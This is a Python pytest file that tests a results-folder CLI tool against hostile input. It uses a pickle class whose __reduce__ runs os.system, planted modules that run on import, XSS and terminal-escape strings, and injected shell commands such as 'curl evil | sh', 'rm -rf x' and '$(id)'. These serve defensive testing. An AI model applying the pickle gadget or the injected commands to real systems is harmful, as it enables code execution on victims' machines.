"""A results folder from a stranger runs nothing, writes nothing elsewhere, and steers neither a browser nor a terminal.

A marker file appears where code of the folder runs; one test runs it on purpose, so that the others can fail.
"""

from __future__ import annotations

import argparse
import json
import os
import pickle
import re
import runpy
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

from neoteny.cli import parser as cli
from neoteny.cli.parser import RunOptions
from neoteny.experiments import UserCode
from neoteny.suite.store.checkpoints import Checkpoints
from support.suite import write_experiment
from support.tampering import rename_experiment, tamper

EVIDENCE = Path(__file__).parents[2] / "evidence"
EVIL = "</script><script>window.broken = 1</script><img src=x onerror=\"run()\"><a href='javascript:run()'>x</a>"
STEERING = "\x1b[31mred\x1b[0m\x07\r\x9b2J‮drow"
SHADOWS = (
    "json",
    "pandas",
    "torch",
    "numpy",
    "pyarrow",
    "argparse",
    "sitecustomize",
    "usercustomize",
    "jinja2",
    "small",
)


class Runs:
    """A value whose pickle runs a command when it is loaded."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self._marker}",)


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """small.py with its results in out/; do not change it."""
    folder = tmp_path_factory.mktemp("trained")
    experiment = write_experiment(folder / "small.py", tasks=2, examples=20)
    options = ("--out", str(folder / "out"), "--jobs", "1", "--kernel", "reference")
    assert cli.main(["run", str(experiment), *options]) == 0
    return folder


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "the code of the folder ran"


@pytest.fixture
def hostile(trained: Path, tmp_path: Path, marker: Path) -> Path:
    """A folder of a user's experiment whose file, modules and checkpoints would run something."""
    folder = Path(shutil.copytree(trained / "out", tmp_path / "hostile"))
    plant(folder, marker)
    tamper(folder / "plan.json", folder=str(folder), command=f"neoteny run {folder}/experiment.py; touch {marker}")
    for part in sorted(folder.glob("parts/*.parquet")):
        write_pickles(folder / "checkpoints" / part.stem, marker)
    return folder


@pytest.fixture
def alarm() -> Iterator[None]:
    """A command that waits for a pipe would wait without end."""
    signal.alarm(60)
    yield
    signal.alarm(0)


def plant(folder: Path, marker: Path) -> None:
    """Files that write the marker when they are imported."""
    code = f"open({str(marker)!r}, 'w').close()\n"
    (folder / "experiment.py").write_text(code + (folder / "experiment.py").read_text())
    if (folder / "experiment.json").exists():
        tamper(folder / "experiment.json", experiment_sha256=UserCode.read(folder / "experiment.py").digest)
    for name in SHADOWS:
        (folder / f"{name}.py").write_text(code + "raise ImportError('shadowed')\n")


def write_pickles(folder: Path, marker: Path) -> None:
    """Checkpoints that have the right checksums, in torch's formats and as a plain pickle."""
    folder.mkdir(parents=True)
    for number, zipped in enumerate((True, False, None), start=1):
        path = folder / "written"
        if zipped is None:
            path.write_bytes(pickle.dumps(Runs(marker)))
        else:
            state = {"format": 1, "training": Runs(marker)}
            torch.save(state, path, _use_new_zipfile_serialization=zipped)
        digest = re.sub(" .*", "", subprocess.check_output(["sha256sum", path], text=True).strip())[:16]
        path.rename(folder / f"{number:06d}-{digest}.pt")


def find_commands() -> list[str]:
    """Every command of the command line."""
    (commands,) = [each for each in cli.make_parser()._actions if isinstance(each, argparse._SubParsersAction)]
    return list(commands.choices)


PROGRAM = """
import http.server, json, sys, time
def serve_for_a_moment(server):
    time.sleep(1)  # the figures are drawn meanwhile
    raise KeyboardInterrupt
http.server.ThreadingHTTPServer.serve_forever = serve_for_a_moment
from neoteny.cli.parser import main
from neoteny.publish.__main__ import main as publish
for arguments in json.loads(sys.argv[1]):
    try:
        status = publish(arguments[1:]) if arguments[0] == "publish" else main(arguments)
    except SystemExit as error:
        status = error.code
    print("status", arguments[0], status, flush=True)
"""


def test_no_command_runs_anything_of_a_folder_even_inside_it(hostile: Path, marker: Path, trained: Path) -> None:
    """All commands in one new process, in which nothing is imported yet; -P is what the command `neoteny` has."""
    for name in ("evidence", "results"):
        shutil.copytree(EVIDENCE / "mnist-width-laptop", hostile / name / "mnist-width-laptop")
        shutil.copyfile(hostile / "experiment.py", hostile / name / "mnist-width-laptop" / "experiment.py")
    (hostile / "docs").mkdir()
    (hostile / "docs" / "results.md").write_text("<!-- claims: begin -->\n<!-- claims: end -->\n")
    for part in sorted(hostile.glob("parts/*"))[:2]:
        part.unlink()  # `run` has to look at the checkpoints of a stack
    again = RunOptions(str(trained / "small.py"), out=hostile, jobs=1, kernel="reference")
    commands: dict[str, list[list[str]]] = {
        "list": [["list"]],
        "status": [["status", "."], ["status", "evidence/mnist-width-laptop"]],
        "watch": [["watch", "."], ["watch", "evidence/mnist-width-laptop"]],
        "report": [["report", "."], ["report", ".", "--so-far"]],
        "claims": [["claims", "."], ["claims", "evidence/mnist-width-laptop"], ["claims", ".", "--tasks", "1"]],
        "verify": [["verify", "."], ["verify", "evidence/mnist-width-laptop", "--tasks", "0"]],
        "data": [["data", "list", "--data", "."]],
        "work": [["work", again.to_json(), "1"]],
        "run": [
            ["run", "scr-utilities", "--kernel", "reference", "--out", "."],
            ["run", *again.command(hostile).split()[2:], "--jobs", "1"],
        ],
        "publish": [["publish", "--keep", "mnist-width-laptop", "--no-figures"]],
    }
    assert set(commands) == {*find_commands(), "publish"}, "a new command needs a line here"
    asked = [each for group in commands.values() for each in group]
    done = subprocess.run(
        [sys.executable, "-P", "-c", PROGRAM, json.dumps(asked)], cwd=hostile, capture_output=True, text=True
    )
    said = done.stdout + done.stderr
    statuses = [tuple(line.split()[1:]) for line in done.stdout.splitlines() if line.startswith("status ")]
    assert [name for name, _ in statuses] == [each[0] for each in asked], said
    assert {name for name, status in statuses if status == "0"} >= {
        "list",
        "status",
        "watch",
        "report",
        "claims",
        "data",
        "publish",
    }, said
    assert "Traceback" not in said
    assert not marker.exists(), said


@pytest.mark.parametrize(("module", "arguments"), [("neoteny", ["list"]), ("neoteny.publish", ["--help"])])
def test_python_dash_m_leaves_the_current_folder_out(
    module: str, arguments: list[str], hostile: Path, marker: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(hostile)
    monkeypatch.delitem(sys.modules, f"{module}.__main__", raising=False)  # another test may have imported it
    monkeypatch.setattr(sys, "argv", [module, *arguments])
    monkeypatch.setattr(sys, "path", [str(hostile), *sys.path])
    with pytest.raises(SystemExit) as ended:
        runpy.run_module(module, run_name="__main__")
    assert ended.value.code == 0
    assert str(hostile) not in sys.path
    if module == "neoteny":
        command = [sys.executable, "-m", module, *arguments]
        assert subprocess.run(command, cwd=hostile, capture_output=True).returncode == 0
        assert not marker.exists()


def test_trust_runs_the_copy(hostile: Path, marker: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["claims", str(hostile)]) == 0
    assert not marker.exists()
    assert str(hostile) not in sys.path
    assert cli.main(["claims", str(hostile), "--trust"]) in (0, 1)
    assert marker.exists()
    assert str(hostile) not in sys.path


def test_pickles_in_checkpoints_are_not_run(tmp_path: Path, marker: Path) -> None:
    write_pickles(tmp_path / "stack", marker)
    for path in sorted((tmp_path / "stack").iterdir()):
        alone = tmp_path / "alone"
        shutil.rmtree(alone, ignore_errors=True)
        alone.mkdir()
        shutil.copy(path, alone)
        try:
            state, _ = Checkpoints(alone).load(torch.device("cpu"))
        except Exception:  # refused, in one way or the other
            state = None
        assert state is None
    assert not marker.exists()


# What a folder says


@pytest.mark.filterwarnings("ignore:constrained_layout not applied")  # such labels leave no room for the lines
def test_text_of_a_folder_steers_neither_a_page_nor_a_terminal(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    saved = json.loads((hostile / "analysis.json").read_text())
    text = EVIL + STEERING

    def poison(value: object, key: str = "") -> object:
        if isinstance(value, dict):
            return {name: poison(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [poison(one, key) for one in value]
        fixed = ("outcome", "coverage", "checksum", "sha256")
        return text if isinstance(value, str) and key not in fixed else value

    saved["unchecked"] = [{"statement": "", "source": "", "reason": ""}]
    saved["chosen"] = [["", "", ""]]
    saved["failures"] = [""]
    tamper(hostile / "analysis.json", **poison(saved))  # pyright: ignore[reportCallIssue]
    rename_experiment(hostile, text)
    tamper(hostile / "experiment.json", configuration={text: [text]})
    for path in hostile.glob("p*/[0-9a-f]*.json"):
        found = {"name": text, "error": text, "machine": text} if path.parent.name == "progress" else {"machine": text}
        tamper(path, **{key: value for key, value in found.items() if key in path.read_text()})
    capsys.readouterr()
    assert cli.main(["status", str(hostile)]) == 0
    assert cli.main(["claims", str(hostile)]) == 1  # it says that something failed
    assert cli.main(["report", str(hostile)]) == 1
    said = capsys.readouterr()
    assert "\\x1b[31mred" in said.out
    assert not [sign for sign in said.out + said.err if not sign.isprintable() and sign != "\n"]
    page = (hostile / "report.html").read_text()
    assert page.count("<script") == page.count("</script") == 3
    assert "<img" not in page
    assert not re.search(r"<a [^>]*javascript:", page)
    assert "&lt;/script&gt;&lt;script&gt;window.broken" in page
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    assert "script-src 'sha256-" in policy[1]
    assert "unsafe-inline" not in policy[1].split("script-src")[1].split(";")[0]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("neoteny run mine.py --scale smoke --out x", "neoteny run mine.py --scale smoke --out {root}"),
        ("neoteny run mine.py --runs 3 --out 'a; b'", "neoteny run mine.py --scale laptop --out {root} --runs 3"),
        ("neoteny run 'a b.py' --data '$(id)'", "neoteny run 'a b.py' --scale laptop --out {root} --data '$(id)'"),
        ("neoteny run mine.py; rm -rf x", ""),
        ("neoteny run mine.py --out x && curl evil | sh", ""),
        ("curl evil | sh", ""),
        ("neoteny run {root}/experiment.py", ""),
        ("neoteny run ./'\x1b[2J'.py", ""),
        ("neoteny run mine.py --no-such-option", ""),
        ("neoteny claims x --trust", ""),
        ("neoteny --help", ""),
        ("'", ""),
        ("", ""),
    ],
)
def test_the_command_to_continue_is_one_or_is_left_out(
    command: str, shown: str, hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper(hostile / "plan.json", command=command.format(root=hostile), runs=["0" * 16])
    capsys.readouterr()
    assert cli.main(["status", str(hostile)]) == 0
    last = capsys.readouterr().out.splitlines()[-1]
    assert last == (
        f"Nothing is running. `{shown.format(root=hostile)}` continues." if shown else "Nothing is running."
    )


def test_the_command_of_our_own_experiments_is_always_theirs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = Path(shutil.copytree(EVIDENCE / "mnist-width-laptop", tmp_path / "folder"))
    for command in ("curl evil | sh", "neoteny run evil.py"):
        tamper(folder / "plan.json", command=command, runs=["0" * 16])
        assert cli.main(["status", str(folder)]) == 0
        said = capsys.readouterr().out
        assert f"`neoteny run mnist-width --scale laptop --out {folder}` continues." in said


def test_a_folder_that_claims_to_be_of_another_experiment(
    trained: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its results are judged by that experiment, which does not know them, or refused; never by a file in it."""
    for name in ("scr-cbp", "mnist-methods", "ant-methods"):
        folder = Path(shutil.copytree(trained / "out", tmp_path / name))
        rename_experiment(folder, name)
        for command in ("claims", "report"):
            status = cli.main([command, str(folder)])
            said = capsys.readouterr()
            assert "Continual backpropagation has a lower error." not in said.out
            assert "Traceback" not in said.err
            if status == 0 and command == "claims":
                assert "0 holds, 0 does not hold" in said.out
            elif status == 1:
                assert "has settings that this has not: " in said.err


# Files that are not what they seem


def test_a_link_to_a_file_is_replaced_and_not_followed(hostile: Path, tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (hostile / "figures").mkdir()
    links = ("report.html", ".report.html.tmp", "figures/01-error.png", "figures/.01-error.png.tmp")
    for name in links:
        (hostile / name).symlink_to(precious)
    assert cli.main(["report", str(hostile)]) == 0
    assert precious.read_text() == "mine"
    assert not [name for name in links if (hostile / name).is_symlink()]


@pytest.mark.parametrize("name", ["figures", "locks", "checkpoints/0123456789abcdef"])
def test_nothing_is_written_through_a_link_to_a_folder(
    name: str, hostile: Path, trained: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    precious = tmp_path / "precious"
    precious.mkdir()
    shutil.rmtree(hostile / name, ignore_errors=True)
    (hostile / name).symlink_to(precious)
    for command in (("report", hostile), ("run", trained / "small.py", "--out", hostile, "--jobs", "1")):
        assert cli.main([str(word) for word in command]) == 1
        assert "is a link to another folder" in capsys.readouterr().err
    assert not list(precious.iterdir())


@pytest.mark.usefixtures("alarm")
@pytest.mark.parametrize("kind", ["pipe", "folder", "device"])
@pytest.mark.parametrize("name", ["experiment.json", "plan.json", "analysis.json", "part", "table", "progress", "lock"])
def test_what_is_not_a_file_is_refused_and_not_waited_for(
    name: str, kind: str, hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    part = next(hostile.glob("parts/*.json"))
    places = {"part": part, "table": part.with_suffix(".parquet"), "progress": hostile / "progress" / part.name}
    path = {**places, "lock": hostile / "locks" / f"{part.stem}.lock"}.get(name, hostile / name)
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    for command in ("status", "claims"):
        assert cli.main([command, str(hostile)]) in (0, 1)
        assert "Traceback" not in capsys.readouterr().err
